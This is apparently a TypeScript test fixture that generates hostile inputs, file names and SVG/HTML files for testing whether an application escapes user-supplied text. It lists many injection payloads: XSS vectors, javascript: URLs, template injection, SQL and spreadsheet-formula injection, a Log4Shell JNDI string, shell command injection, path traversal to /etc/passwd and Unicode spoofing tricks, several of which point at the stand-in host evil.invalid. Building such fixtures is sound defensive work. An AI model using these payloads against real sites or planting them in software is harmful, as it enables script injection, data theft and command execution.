/**
 * What an attacker writes where somebody else reads, by construct. Each calls `ran()`, opens a dialog,
 * asks for something whose name has `evil` in it, or misleads the eye; as a text all of it is harmless.
 */
const RUN = "ran()";
const IMAGE = `<img src=x onerror=${RUN}>`;

/** Element and attributes with an event that comes by itself or at a touch. */
const EVENTS = [
  "img src=x onerror", "img src=evil.png onload", "image src=x onerror", "body onload", "body onpageshow", "body onhashchange",
  "svg onload", "svg/onload", "svg\nonload", "iframe onload", "iframe srcdoc='<b>' onload", "object data=x onerror", "embed src=x onerror",
  "input autofocus onfocus", "input onblur autofocus><input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus",
  "button autofocus onfocus", "a href=# tabindex=0 autofocus onfocus", "div contenteditable autofocus onfocus", "details open ontoggle",
  "dialog open onclose", "div popover id=p onbeforetoggle", "video src=x onerror", "video><source onerror", "audio src=x onerror",
  "audio autoplay src=data:, onloadstart", "track src=x onerror", "marquee onstart", "marquee behavior=alternate onbounce", "p style=animation:x onanimationstart",
  "p style=transition:1s ontransitionend", "p onpointerenter", "p onmouseover", "p onclick", "p onwheel", "p oncopy", "p onscrollend",
  "link rel=stylesheet href=evil.css onerror", "script src=x onerror", "style onload", "meter onmouseenter", "form onformdata", "form><input type=image src=x onerror",
];

/** What somebody may think that a text stands in. */
const ENCLOSURES = [
  "\">", "'>", "`>", "\\\">", "</p>", "</span></p>", "</textarea>", "</title>", "</style>", "</script>", "</noscript>", "</template>",
  "</svg>", "</math>", "</select>", "</button>", "-->", "--!>", "]]>", "*/", "\u00ab \">", "&quot;>", "%22%3E", "x\" onmouseover=ran() a=\"", "x' autofocus onfocus=ran() a='",
];

const SCRIPTS = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script\u0000>${RUN}</script>`, `<script/x>${RUN}</script>`, `<scr<script>ipt>${RUN}</script>`,
  "<script src=//evil.invalid/a.js></script>", "<script src=/evil.js></script>", "<script type=module>import '/evil.js'</script>",
  `<script src="data:text/javascript,${RUN}"></script>`, "<script>alert(1)</script>", "<script>import('/evil.js')</script>",
  "<script type=importmap>{\"imports\":{\"svelte\":\"/evil.js\"}}</script>", `<script nonce>${RUN}</script>`, `<<script>${RUN}//<</script>`,
];

const DRAWINGS = [
  `<svg><script>${RUN}</script></svg>`, `<svg><script href="data:,${RUN}"/></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set onbegin=${RUN} attributename=x to=y>`, `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text y=20>x</text></a></svg>`, "<svg><use href=\"/evil.svg#x\"/></svg>",
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`, `<svg><foreignObject>${IMAGE}</foreignObject></svg>`,
  "<svg><image href=//evil.invalid/a.png /></svg>", "<svg><style>@import '/evil.css'</style></svg>", `<svg><title>${IMAGE}</title></svg>`,
  `<math><maction actiontype=statusline xlink:href="javascript:${RUN}">x</maction></math>`, `<math href="javascript:${RUN}">x</math>`,
  `<math><mtext><table><mglyph><style><!--</style>${IMAGE}`, `<svg><desc><![CDATA[</desc>${IMAGE}]]></svg>`,
];

const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, `\u0001javascript:${RUN}`, `javascript&colon;${RUN}`,
  `javascript://x%0a${RUN}`, "data:text/html,<script>ran()</script>", "data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==", "//evil.invalid/", "vbscript:ran()", "blob:evil",
];

const FRAMES = [
  `<a href="javascript:${RUN}">x</a>`, `<a href="jav&#x09;ascript:${RUN}">x</a>`, "<a href=/log-in download=evil.html ping=/evil>x</a>", `<iframe src="javascript:${RUN}">`,
  "<iframe srcdoc=\"<script>parent.ran()</script>\">", "<object data=\"data:text/html,<script>parent.ran()</script>\">", "<embed src=//evil.invalid/a.swf>",
  `<form action="javascript:${RUN}"><button>x</button></form>`, `<button formaction="javascript:${RUN}">x</button>`, "<base href=//evil.invalid/>",
  "<meta http-equiv=refresh content=\"0;url=/evil\">", "<meta http-equiv=set-cookie content=evil=1>", "<link rel=stylesheet href=/evil.css>", "<link rel=prefetch href=//evil.invalid/>",
  "<link rel=dns-prefetch href=//evil.invalid>", "<area href=javascript:ran()>", "<portal src=/evil>", "<frameset onload=ran()>",
];

const TEMPLATES = [
  "{{ran()}}", "{{constructor.constructor('ran()')()}}", "${ran()}", "`${ran()}`", "#{ran()}", "<%= ran() %>", "{% raw %}ran(){% endraw %}",
  `{@html '${IMAGE}'}`, "{#if ran()}x{/if}", "{@const x = ran()}", "[[ran()]]", "__proto__", "constructor", "toString", "hasOwnProperty",
  "{n}", "{0} {1} %s %n %d", "$& $1 $` $' $$", "[object Object]", "undefined", "null", "NaN", "-1", "true",
];

const STYLES = [
  "<div style=background:url(//evil.invalid/a)>", "<style>@import '//evil.invalid/a.css'</style>", "<style>*{background:url(/evil)}</style>",
  "<div style=\"width:expression(ran())\">", "<div style=\"-moz-binding:url(/evil.xml#x)\">", "<div style=\"position:fixed;inset:0;z-index:9999\">Tapez votre mot de passe</div>",
  "<font size=+99 color=red>x", "<h1>x", "<table><td background=/evil>", "<style>body{display:none}</style>",
];

const DANGLING = [
  "<img src='/evil?", "<a href='//evil.invalid/?", "<textarea>", "<xmp>", "<plaintext>", "<!--", "<![CDATA[", "<?xml version='1.0'?>",
  "<!DOCTYPE x [<!ENTITY y SYSTEM '/evil'>]><x>&y;</x>", `<noscript><p title="</noscript>${IMAGE}">`, `<form><math><mtext></form><form><mglyph><style></math>${IMAGE}`,
  `<p id="</p>${IMAGE}">`, "&lt;img src=x onerror=ran()&gt;", "&amp;lt;script&amp;gt;", "<input name=body><input name=attributes>", "<form id=application><input name=cookie>",
];

/** Signs that look like others, cannot be seen, or turn the direction of what follows. */
const SIGNS = [
  "\uff1cscript\uff1eran()\uff1c/script\uff1e", "+ADw-script+AD4-ran()+ADw-/script+AD4-", "<scr\u200bipt>ran()</scr\u200bipt>", "\u202egpj.exe", "ordonnance\u202efdp.exe",
  "\u2066\u202e\u2069Dr Ada", "\u200fمرحبا \u200eAda", "\u061cAda", "\ufeffAda", "A\u0000da", "A\u2028d\u2029a", "Ad\u00ada", "\u{e0041}\u{e0064}\u{e0061}", "\ufffe\uffff",
  "\u00c5 \u0041\u030a \u212b", "Аdа Exemplе", "Z\u0351\u036b\u0343a\u0321\u034ae\u031e\u0300s", "👩\u200d👩\u200d👧\u200d👦", "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}", "\u{1f1eb}", "\ufdfd\ufdfd\ufdfd", "\u1680\u3000\u00a0x",
  "a\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301", "\u202dLTR\u202c \u202bRTL\u202c", "\u001b[2J\u001b]0;x\u0007", "x\r\ny\rz\u000bq", "İıſK",
];

const OTHERS = [
  "'; DROP TABLE account; --", "\" OR \"\"=\"", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd", "${jndi:ldap://evil.invalid/a}", "() { :; }; echo evil", "../../../etc/passwd",
  "x\r\nSet-Cookie: evil=1\r\n\r\n<script>ran()</script>", "CON", "nul.txt", "|| ping evil.invalid", "$(touch evil)",
];

const LONG = [
  "A".repeat(30_000), "<b>".repeat(5_000), IMAGE.repeat(500), "<div>".repeat(6_000), "\n".repeat(3_000) + "x", "👩\u200d👧".repeat(1_500),
  "a" + "\u0301".repeat(2_000), "\u202e".repeat(2_000) + "x", "mot ".repeat(10_000),
];

/** All of them, each once; those that fit go into names, titles and the names of files too. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...EVENTS.map((one) => `<${one}=${RUN}>`), ...ENCLOSURES.map((one) => one + IMAGE), ...SCRIPTS, ...DRAWINGS, ...ADDRESSES, ...FRAMES,
    ...TEMPLATES, ...STYLES, ...DANGLING, ...SIGNS, ...OTHERS, ...LONG,
  ]),
];

const bytes = (text: string): number => new TextEncoder().encode(text).length;

/** Those that fit into a name or a subject (spec: entry §2). */
export const SHORT: readonly string[] = PAYLOADS.filter((one) => bytes(one) <= 200);

/** What an SVG file, and what an HTML file with a payload in it holds. */
export const drawing = (payload: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="${RUN}"><script>${RUN}</script>${payload}</svg>`;
export const document = (payload: string): string => `<!doctype html><script>parent.${RUN};opener.${RUN}</script><body onload=${RUN}>${payload}`;

/** How files that run things call themselves, and how others do that they hide behind. */
const ENDINGS = [".svg", ".html", ".png", ".xhtml", ".jpg", ".xml", ".pdf", ".gif", ".webp"];

export interface HostileFile {
  readonly name: string;
  readonly content: string;
}

/** A name of a file holds no slash and no control sign (spec: file §2). */
export const FILES: readonly HostileFile[] = SHORT.map((one, at) => ({
  name: one.replace(/[/\\]/gu, " ").replace(/\p{Cc}/gu, "") + (ENDINGS[at % ENDINGS.length] ?? ""),
  content: at % 2 === 0 ? drawing(one) : document(one),
}));
